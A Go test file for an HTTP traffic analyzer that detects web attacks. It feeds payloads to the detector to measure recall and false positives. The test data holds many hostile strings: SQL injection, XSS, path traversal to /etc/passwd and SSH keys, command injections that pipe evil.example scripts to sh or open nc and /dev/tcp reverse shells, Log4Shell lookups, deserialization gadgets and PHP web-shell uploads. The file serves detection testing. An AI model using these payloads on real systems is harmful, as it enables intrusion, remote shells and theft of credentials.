package attack

import (
	"fmt"
	"github.com/apitap/apitap/internal/testutil/analyzertest"
	"maps"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/apitap/apitap/internal/testgen/apigen"
	"github.com/apitap/apitap/reassembly"
	"github.com/apitap/apitap/reassembly/http1"
)

// payloads are realistic attack strings per class.
var payloads = map[string][]string{
	"sqli": {"' OR '1'='1", "1' OR 1=1--", "';SELECT * FROM orders limit65--", "1 AND (SELECT 1 FROM pg_sleep(5))--",
		"1' AND 1=(SELECT COUNT(*) FROM sysobjects)--", "x' || (SELECT version()) || '", "1;WAITFOR DELAY '0:0:5'", "admin'--", "' UNION SELECT username,password FROM users--", "1; DROP TABLE users",
		"1' AND SLEEP(5)--", "1 AND 1=CONVERT(int,@@version)", "' OR 1=1#", "') OR ('a'='a", "1' WAITFOR DELAY '0:0:5'--",
		"1 UNION ALL SELECT NULL,NULL,NULL--", "x' AND extractvalue(1,concat(0x7e,version()))--", "1' ORDER BY 3--",
		"-1 UNION SELECT 1,2,3", "'; EXEC xp_cmdshell('dir')--", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--"},
	"xss": {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)",
		"\"><script>alert(1)</script>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "'><img src=x onerror=prompt(1)>",
		"<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
		"<svg><animate onbegin=alert(1) attributeName=x>", "<script src=//evil.example/x.js></script>"},
	"path_traversal": {"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/etc/passwd",
		"../../../../proc/self/environ", "../../WEB-INF/web.xml", "..;/..;/..;/etc/shadow", "..%c0%af..%c0%af..%c0%afetc/passwd",
		"%2e%2e/%2e%2e/%2e%2e/etc/hosts", "../../../.ssh/id_rsa"},
	"cmd_injection": {"; cat /etc/passwd", "| id", "127.0.0.1 && whoami", "x;c$@at /e??/p?sswd", "$(printf 'id')",
		"& type C:\\Windows\\win.ini", "; powershell -Command \"Invoke-WebRequest http://evil.example/a.ps1\"", "--output=/tmp/x; curl evil.example|sh", "`whoami`", "$(curl http://evil.example/x.sh | sh)", "&& uname -a",
		"; wget http://evil.example/a -O /tmp/a", "|| ping -c 3 10.0.0.1", "; sleep 10", "\nid", "& powershell -enc AAAA",
		"; nc -e /bin/sh 10.0.0.1 4444", "$(whoami)", "| bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
	"ssrf": {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/", "http://2130706433/",
		"http://0177.0.0.1/", "http://0x7f000001/", "http://[::1]/", "http://[::ffff:127.0.0.1]/",
		"http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://127.1/",
		"dict://localhost:11211/stats", "http://kubernetes.default.svc/api"},
	"log4shell": {"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
		"${jndi:dns://evil.example}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}", "${j${upper:n}di:ldaps://evil.example/a}"},
	"ssti": {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
		"${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}", "*{7*7}"},
	"crlf_injection": {"en\r\nSet-Cookie: sid=attacker", "x\r\nLocation: https://evil.example/", "abc\r\n\r\n<html>injected</html>",
		"admin\n2024-05-01 12:00:00 INFO User admin logged in successfully", "ok\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
		"fr\nX-Forwarded-For: 127.0.0.1", "guest\r\n[2024-05-01T12:00:00Z] ERROR payment refunded to attacker"},
	"open_redirect": {"//evil.example/", "https://evil.example/login", "/\\evil.example", "\\\\evil.example", "https://shop.example@evil.example/",
		"//evil.example/%2e%2e", "/%09/evil.example", "https:/\\evil.example"},
	"xpath_ldap_injection": {"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "admin)(|(password=*)", "' or name()='admin",
		"') or count(/*)=1 or ('", "x' or string-length(name(/*[1]))>0 or 'a'='b"},
	"deserialization": {"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==",
		`O:8:"stdClass":1:{s:4:"test";s:4:"evil";}`, `a:2:{i:0;O:4:"Evil":0:{}i:1;s:1:"x";}`,
		`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}`,
		`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`,
		`!!python/object/apply:os.system ["id"]`, `_$$ND_FUNC$$_function(){require('child_process').exec('id')}()`,
		"gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="},
}

// benign values that look like attacks to a careless matcher.
var lookAlikes = []string{
	"O'Brien", "Shaquille O'Neal", "select your plan", "Select the best option for your team", "drop-off point", "Union Station",
	"<b>Bold</b> and <i>italic</i> product description", "<p>Great laptop stand &amp; organizer</p>", "https://example.com/callback?x=1",
	"https://cdn.example.com/img/logo.png", "1 or 2 items", "rock & roll; cat videos", "Tom & Jerry", "C:\\Users\\Public\\report.docx",
	"docs/readme.md", "../images/photo.png", "{{name}}", "Hello {{ user.first_name }}!", "7*7=49", "price: $100 (incl. tax)",
	"SELECT plan for 2 users", "user@example.com", "ORDER BY date DESC", "mother's day sale -- 20% off", "the #1 choice; trusted",
	"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig", "Q2hlY2sgb3V0IHRoaXMgYmFzZTY0IHVwbG9hZCBpbiB0aGUgZm9ybQ==", "a|b|c", "id: 42",
	"ping pong table", "echo chamber", "sleep mode", "50% off; limited", "$100 & up", "why not? it's fine -- really", "`code` sample",
	"http://localhost.example.com/", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "https://internal-docs.example.com/",
}

// newTestState is the fast engine alone (the deep check off): what most
// tests and benchmarks measure.
func newTestState(t testing.TB) *State {
	cfg := NewConfig()
	cfg.DeepCheck.Enabled = false
	st, err := NewState(cfg, zerolog.Nop())
	if err != nil {
		t.Fatal(err)
	}
	return st
}

type collector = analyzertest.Collector

var at0 = time.Date(2026, 1, 1, 10, 0, 0, 0, time.UTC)

func mk(method, path, query string, headers []http1.Header, body, ct string) *reassembly.Transaction {
	req := &http1.Request{Method: method, Host: "api.example", Path: path, Query: query, Target: path, Headers: headers, Start: at0, End: at0}
	if body != "" {
		req.Body.Data = []byte(body)
		req.Headers = append(req.Headers, http1.Header{Name: "Content-Type", Value: ct})
	}
	return &reassembly.Transaction{Flow: reassembly.Flow{Client: netip.MustParseAddrPort("203.0.113.5:40000"), Server: netip.MustParseAddrPort("10.0.0.1:80")},
		Exchange: http1.Exchange{Request: req, Response: &http1.Response{Status: 200, Start: at0, End: at0}}}
}

// placements put a payload where attackers put it, in several encodings:
// query (plain, double-encoded, mixed case), JSON (flat, nested, GraphQL
// variables), form, multipart, a custom header, a cookie.
func placements(class, p string, r *rand.Rand) []*reassembly.Transaction {
	param := "q"
	switch class {
	case "ssrf":
		param = "callback_url"
	case "path_traversal":
		param = "file"
	case "open_redirect":
		param = "next"
	}
	enc := url.QueryEscape(p)
	dbl := url.QueryEscape(enc)
	mixed := mixCase(p, r)
	if class == "deserialization" || class == "crlf_injection" {
		mixed = p // case is part of these payloads
	}
	multipart := "--b0undary\r\nContent-Disposition: form-data; name=\"" + param + "\"\r\n\r\n" + p + "\r\n--b0undary--\r\n"
	out := []*reassembly.Transaction{
		mk("GET", "/v1/items", param+"="+enc, nil, "", ""),
		mk("GET", "/v1/items", param+"="+dbl, nil, "", ""),
		mk("GET", "/v1/items", "page=2&"+param+"="+url.QueryEscape(mixed), nil, "", ""),
		mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"name":"x","%s":%s}`, param, jsonString(p)), "application/json"),
		mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"filter":{"and":[{"%s":%s}]},"page":{"size":10}}`, param, jsonString(p)), "application/json"),
		mk("POST", "/graphql", "", nil, fmt.Sprintf(`{"query":"query Search($%s: String!) { search(%s: $%s) { id } }","variables":{"%s":%s}}`, param, param, param, param, jsonString(p)), "application/json"),
		mk("POST", "/v1/items", "", nil, "a=1&"+param+"="+enc, "application/x-www-form-urlencoded"),
		mk("POST", "/v1/items", "", nil, multipart, "multipart/form-data; boundary=b0undary"),
	}
	if class != "open_redirect" { // a redirect parameter is a parameter
		out = append(out, mk("GET", "/v1/items", "", []http1.Header{{Name: "X-Search", Value: strings.NewReplacer("\r", "%0d", "\n", "%0a").Replace(p)}}, "", ""),
			mk("GET", "/v1/items", "", []http1.Header{{Name: "Cookie", Value: "sid=abc; pref=" + enc}}, "", ""))
	}
	if class == "crlf_injection" {
		// line breaks in a JSON string are text: only the query, form and
		// header forms are attacks there
		out = slices.DeleteFunc(out, func(tx *reassembly.Transaction) bool {
			return strings.Contains(string(tx.Request.Body.Bytes()), "{") && !strings.Contains(p, "HTTP/1.1") && !strings.Contains(p, "Set-Cookie") && !strings.Contains(p, "Location")
		})
	}
	switch class {
	case "log4shell":
		out = append(out, mk("GET", "/v1/items", "", []http1.Header{{Name: "User-Agent", Value: p}}, "", ""),
			mk("GET", "/v1/items", "", []http1.Header{{Name: "X-Api-Version", Value: p}}, "", ""))
	case "path_traversal":
		out = append(out, mk("GET", "/v1/files/"+strings.ReplaceAll(url.PathEscape(p), "%2F", "/"), "", nil, "", ""))
	case "xss":
		out = append(out, mk("POST", "/v1/items", "", nil, fmt.Sprintf(`{"bio":%s}`, jsonUnicode(p)), "application/json"))
	}
	return out
}

const uploadCT = "multipart/form-data; boundary=upl0ad"

// upload is a multipart body with one file.
func upload(name, ctype, content string) string {
	return "--upl0ad\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy file\r\n--upl0ad\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" +
		name + "\"\r\nContent-Type: " + ctype + "\r\n\r\n" + content + "\r\n--upl0ad--\r\n"
}

func mixCase(s string, r *rand.Rand) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'a' && c <= 'z' && r.IntN(2) == 0 {
			b[i] = c - 'a' + 'A'
		}
	}
	return string(b)
}

func jsonString(s string) string {
	b, _ := jsonMarshal(s)
	return b
}

func jsonMarshal(s string) (string, error) {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"':
			b.WriteString(`\"`)
		case '\\':
			b.WriteString(`\\`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String(), nil
}

// jsonUnicode escapes < > as \u003c \u003e (what JSON encoders do).
func jsonUnicode(s string) string {
	j := jsonString(s)
	return strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(j)
}

// TestCorpus measures recall per class on encoded and placed payloads, and
// the false-positive rate on benign API traffic full of look-alikes.
func TestCorpus(t *testing.T) {
	st := newTestState(t)
	w := newWorker(st)
	r := rand.New(rand.NewPCG(3, 4))
	classes := slices.Sorted(maps.Keys(payloads))
	var misses []string
	t.Logf("%-15s %6s %6s %7s", "class", "total", "found", "recall")
	for _, class := range classes {
		total, found := 0, 0
		for _, p := range payloads[class] {
			for i, tx := range placements(class, p, r) {
				total++
				var c collector
				w.agg = newWorker(st).agg // every case stands alone
				w.Analyze(tx, &c)
				ok := false
				for _, d := range c.Detections {
					ok = ok || d.Class == class
				}
				if ok {
					found++
				} else if len(misses) < 40 {
					misses = append(misses, fmt.Sprintf("%s placement %d: %q", class, i, p))
				}
			}
		}
		recall := float64(found) / float64(total)
		t.Logf("%-15s %6d %6d %7.3f", class, total, found, recall)
		if recall < 0.95 {
			t.Errorf("%s: recall %.3f < 0.95", class, recall)
		}
	}
	// XXE, NoSQL and prototype pollution live in bodies and keys
	for _, c := range []struct {
		class string
		tx    *reassembly.Transaction
	}{
		{"xxe", mk("POST", "/v1/import", "", nil, `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, "application/xml")},
		{"xxe", mk("POST", "/v1/import", "", nil, `<!DOCTYPE r [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]><r/>`, "text/xml")},
		{"nosqli", mk("POST", "/v1/login", "", nil, `{"username":"admin","password":{"$ne":null}}`, "application/json")},
		{"nosqli", mk("GET", "/v1/users", "name%5B%24regex%5D=.*", nil, "", "")},
		{"nosqli", mk("POST", "/v1/find", "", nil, `{"$where":"sleep(100)"}`, "application/json")},
		{"prototype_pollution", mk("POST", "/v1/profile", "", nil, `{"__proto__":{"admin":true}}`, "application/json")},
		{"prototype_pollution", mk("GET", "/v1/profile", "constructor%5Bprototype%5D%5Badmin%5D=1", nil, "", "")},
		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Content-Length", Value: "4"}, {Name: "Transfer-Encoding", Value: "chunked"}}, "", "")},
		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Transfer-Encoding", Value: "chunked, identity"}}, "", "")},
		{"request_smuggling", mk("POST", "/v1/x", "", []http1.Header{{Name: "Content-Length", Value: "4"}, {Name: "Content-Length", Value: "40"}}, "", "")},
		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("shell.php", "image/png", "<?php system($_GET['c']); ?>"), uploadCT)},
		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("photo.php.jpg", "image/jpeg", "\xff\xd8\xff\xe0"), uploadCT)},
		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("shell.jsp ", "image/png", "x"), uploadCT)},
		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("x.asp;.jpg", "image/jpeg", "x"), uploadCT)},
		{"file_upload", mk("POST", "/v1/docs", "", nil, upload(".htaccess", "text/plain", "AddType application/x-httpd-php .png"), uploadCT)},
		{"file_upload", mk("POST", "/v1/avatar", "", nil, upload("avatar.png", "image/png", "GIF89a<?php eval($_POST[1]); ?>"), uploadCT)},
		{"file_upload", mk("POST", "/v1/docs", "", nil, upload("report.pdf", "application/pdf", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"), uploadCT)},
		{"file_upload", mk("PUT", "/v1/files", "", []http1.Header{{Name: "X-File-Name", Value: "cmd.aspx"}}, "", "")},
		{"path_traversal", mk("POST", "/v1/avatar", "", nil, upload("../../../var/www/html/x.png", "image/png", "x"), uploadCT)},
		{"evasion", func() *reassembly.Transaction {
			tx := mk("GET", "/v1/items", "q=1", []http1.Header{{Name: "X-Pad", Value: strings.Repeat("A", 70000)}}, "", "")
			tx.Flags |= http1.FlagHeadersTruncated
			return tx
		}()},
	} {
		var col collector
		w.agg = newWorker(st).agg
		w.Analyze(c.tx, &col)
		ok := false
		for _, d := range col.Detections {
			ok = ok || d.Class == c.class
		}
		if !ok {
			t.Errorf("%s not detected in %s %s?%s %s", c.class, c.tx.Request.Method, c.tx.Request.Path, c.tx.Request.Query, c.tx.Request.Body.Bytes())
		}
	}
	if len(misses) > 0 && t.Failed() {
		t.Logf("missed:\n  %s", strings.Join(misses, "\n  "))
	}

	// benign: API traffic from the specs, with look-alikes in values
	benign, fps := 0, map[string]int{}
	var fpExamples []string
	for _, spec := range []string{"shop.yaml", "saas.yaml", "content.yaml", "payments.yaml"} {
		doc, err := apigen.Load(filepath.Join("..", "..", "testdata", "specs", spec))
		if err != nil {
			t.Fatal(err)
		}
		g := apigen.New(doc, "api."+spec, 11)
		for i := 0; i < 2500; i++ {
			tx, _ := g.Next()
			la := lookAlikes[r.IntN(len(lookAlikes))]
			switch i % 4 {
			case 0:
				if tx.Request.Query != "" {
					tx.Request.Query += "&"
				}
				tx.Request.Query += "note=" + url.QueryEscape(la)
			case 1:
				tx.Request.Body.Data = []byte(fmt.Sprintf(`{"description":%s,"tags":["sale"],"ref":%s}`, jsonString(la), jsonString(lookAlikes[r.IntN(len(lookAlikes))])))
				tx.Request.Headers = append(tx.Request.Headers, http1.Header{Name: "Content-Type", Value: "application/json"})
			case 2:
				tx.Request.Headers = append(tx.Request.Headers, http1.Header{Name: "Referer", Value: "https://shop.example/search?q=" + url.QueryEscape(la)})
			}
			benign++
			var c collector
			w.Analyze(tx, &c)
			for _, d := range c.Detections {
				fps[d.Class]++
				if len(fpExamples) < 20 {
					fpExamples = append(fpExamples, fmt.Sprintf("%s %s: %s", d.Class, d.Evidence[0].Rule, d.Evidence[0].Value))
				}
			}
		}
	}
	n := 0
	for _, v := range fps {
		n += v
	}
	rate := float64(n) / float64(benign)
	t.Logf("benign transactions %d, false positives %d (%.4f%%) %v", benign, n, 100*rate, fps)
	if rate >= 0.001 {
		t.Errorf("false-positive rate %.4f%% >= 0.1%%:\n  %s", 100*rate, strings.Join(fpExamples, "\n  "))
	}
}

// BenchmarkAnalyze is the fast engine's cost per typical API transaction.
func BenchmarkAnalyze(b *testing.B) {
	st := newTestState(b)
	w := newWorker(st)
	doc, _ := apigen.Load(filepath.Join("..", "..", "testdata", "specs", "shop.yaml"))
	g := apigen.New(doc, "api.shop.test", 1)
	txs := make([]*reassembly.Transaction, 1024)
	for i := range txs {
		txs[i], _ = g.Next()
	}
	var c collector
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		w.Analyze(txs[i&1023], &c)
	}
}

// TestHostHeaderSSRF: internal names and addresses in the Host header are
// ordinary (in-cluster calls, probes); a cloud metadata address is not.
func TestHostHeaderSSRF(t *testing.T) {
	st := newTestState(t)
	for _, c := range []struct {
		host string
		want bool
	}{
		{"localhost:8080", false}, {"127.0.0.1", false}, {"10.0.0.5:8080", false}, {"orders.shop.svc.cluster.local", false},
		{"kubernetes.default.svc", false}, {"api.internal", false}, {"169.254.169.254", true}, {"metadata.google.internal", true},
	} {
		w := newWorker(st)
		var col collector
		w.Analyze(mk("GET", "/v1/items", "", []http1.Header{{Name: "Host", Value: c.host}}, "", ""), &col)
		got := false
		for _, d := range col.Detections {
			got = got || d.Class == "ssrf"
		}
		if got != c.want {
			t.Errorf("Host: %s: ssrf %v, want %v", c.host, got, c.want)
		}
	}
}

// TestHostNotRememberedClean: a Host value spared by the SSRF exemption
// is not remembered as clean, so the same value in another fetch-named
// header (X-Forwarded-Host) is still reported.
func TestHostNotRememberedClean(t *testing.T) {
	for _, v := range []string{"localhost", "localhost:8080", "169.254.1.1", "my-very-long-service-name.ns.svc.cluster.local"} {
		var fresh collector
		newWorker(newTestState(t)).Analyze(mk("GET", "/v1/items", "", []http1.Header{{Name: "X-Forwarded-Host", Value: v}}, "", ""), &fresh)
		if len(fresh.Detections) == 0 {
			continue // not reported anyway
		}
		w := newWorker(newTestState(t))
		var col collector
		for i := 0; i < 2; i++ {
			w.Analyze(mk("GET", "/v1/items", "", []http1.Header{{Name: "Host", Value: v}}, "", ""), &col)
		}
		col.Detections = nil
		w.Analyze(mk("GET", "/v1/items", "", []http1.Header{{Name: "Accept", Value: "*/*"}, {Name: "X-Forwarded-Host", Value: v}}, "", ""), &col)
		if len(col.Detections) == 0 {
			t.Errorf("%q in X-Forwarded-Host not reported after two requests with it as Host", v)
		}
	}
}

// TestDisabledLog4ShellInAuthorization: a disabled class is not reported
// from the Authorization header either.
func TestDisabledLog4ShellInAuthorization(t *testing.T) {
	tx := func() *reassembly.Transaction {
		return mk("GET", "/v1/items", "", []http1.Header{{Name: "Authorization", Value: "Bearer ${jndi:ldap://evil.example/a}"}}, "", "")
	}
	for _, disabled := range []bool{false, true} {
		cfg := NewConfig()
		if disabled {
			cfg.Disabled = []string{"log4shell"}
		}
		st, err := NewState(cfg, zerolog.Nop())
		if err != nil {
			t.Fatal(err)
		}
		var col collector
		newWorker(st).Analyze(tx(), &col)
		got := false
		for _, d := range col.Detections {
			got = got || d.Class == "log4shell"
		}
		if got == disabled {
			t.Errorf("disabled %v: log4shell reported %v", disabled, got)
		}
	}
}
